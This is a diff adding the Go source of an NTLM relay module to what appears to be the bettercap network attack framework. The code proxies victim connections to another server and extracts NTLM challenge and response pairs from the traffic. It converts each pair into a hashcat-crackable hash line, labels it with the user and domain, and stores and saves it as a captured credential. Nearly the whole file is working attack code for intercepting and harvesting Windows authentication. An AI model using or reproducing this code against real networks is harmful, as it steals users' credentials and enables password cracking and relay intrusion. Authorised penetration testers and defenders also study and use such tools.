@@ -0,0 +1,170 @@
+package ntlm_relay
+
+import (
+	"net"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/bettercap/bettercap/packets"
+	"github.com/bettercap/bettercap/session"
+)
+
+const (
+	dialTimeout = 5 * time.Second
+	// how many bytes of a direction are kept while waiting for the rest of
+	// a message split across several reads
+	maxPending = 0xffff
+)
+
+// relayConn is a victim connection handed off to the relay tool, it keeps
+// the last challenge sent by the server to pair it with the client answer.
+type relayConn struct {
+	sync.Mutex
+	client    net.Conn
+	server    net.Conn
+	port      int
+	challenge *packets.NTLMMessage
+}
+
+func (c *relayConn) Close() {
+	c.Lock()
+	defer c.Unlock()
+
+	c.client.Close()
+	if c.server != nil {
+		c.server.Close()
+	}
+}
+
+func (mod *NTLMRelay) handleConnection(client *net.TCPConn, port int) {
+	c := &relayConn{
+		client: client,
+		port:   port,
+	}
+	defer c.Close()
+
+	mod.track(c, true)
+	defer mod.track(c, false)
+
+	to := mod.handoffAddress(port)
+	mod.Debug("handing off %s to %s", client.RemoteAddr(), to)
+
+	server, err := net.DialTimeout("tcp", to, dialTimeout)
+	if err != nil {
+		mod.Warning("can't hand off %s to %s: %s", client.RemoteAddr(), to, err)
+		return
+	}
+	c.Lock()
+	c.server = server
+	c.Unlock()
+
+	// the module might have been stopped while dialing
+	if !mod.Running() {
+		return
+	}
+
+	wg := sync.WaitGroup{}
+	wg.Add(2)
+
+	go mod.pipe(c, client, server, true, &wg)
+	go mod.pipe(c, server, client, false, &wg)
+
+	wg.Wait()
+}
+
+func (mod *NTLMRelay) pipe(c *relayConn, src, dst net.Conn, fromClient bool, wg *sync.WaitGroup) {
+	defer wg.Done()
+	// make sure the other direction returns too
+	defer c.Close()
+
+	pending := make([]byte, 0)
+	buff := make([]byte, 0xffff)
+	for {
+		n, err := src.Read(buff)
+		if n > 0 {
+			if _, werr := dst.Write(buff[:n]); werr != nil {
+				mod.Debug("write failed: %s", werr)
+				return
+			}
+
+			pending = append(pending, buff[:n]...)
+			msgs, consumed := packets.ExtractNTLMMessages(pending)
+			pending = pending[consumed:]
+			if len(pending) > maxPending {
+				pending = pending[len(pending)-maxPending:]
+			}
+			// don't let the slice grow forever
+			pending = append(make([]byte, 0, len(pending)), pending...)
+
+			for _, msg := range msgs {
+				mod.onMessage(c, msg, fromClient)
+			}
+		}
+
+		if err != nil {
+			return
+		}
+	}
+}
+
+func (mod *NTLMRelay) onMessage(c *relayConn, msg packets.NTLMMessage, fromClient bool) {
+	client := c.client.RemoteAddr().(*net.TCPAddr).IP.String()
+
+	NTLMRelayMessageEvent{
+		Client:     client,
+		Port:       c.port,
+		Type:       msg.TypeName(),
+		FromClient: fromClient,
+		Blob:       msg.Base64(),
+	}.Push()
+
+	c.Lock()
+	defer c.Unlock()
+
+	if msg.Type == packets.NTLMChallengeMsg {
+		challenge := msg
+		c.challenge = &challenge
+	} else if msg.Type == packets.NTLMAuthenticate && c.challenge != nil {
+		line, err := packets.NTLMHashcat(*c.challenge, msg)
+		if err != nil {
+			mod.Debug("no hash from %s: %s", client, err)
+			return
+		}
+
+		user, domain := line, ""
+		if parts := strings.SplitN(line, ":", 4); len(parts) == 4 {
+			user, domain = parts[0], parts[2]
+		}
+
+		NTLMRelayHashEvent{
+			Client:    client,
+			Port:      c.port,
+			User:      user,
+			Domain:    domain,
+			Challenge: c.challenge.Base64(),
+			Response:  msg.Base64(),
+			Hash:      line,
+		}.Push()
+
+		username := user
+		if domain != "" {
+			username = domain + "\\" + user
+		}
+		server := ""
+		if c.server != nil {
+			server = c.server.RemoteAddr().String()
+		}
+		mod.Session.AddCredential(session.Credential{
+			Protocol: "ntlm",
+			Type:     session.CredentialHash,
+			Source:   mod.Name(),
+			Client:   client,
+			Server:   server,
+			Username: username,
+			Secret:   line,
+		})
+
+		mod.saveHash(line)
+	}
+}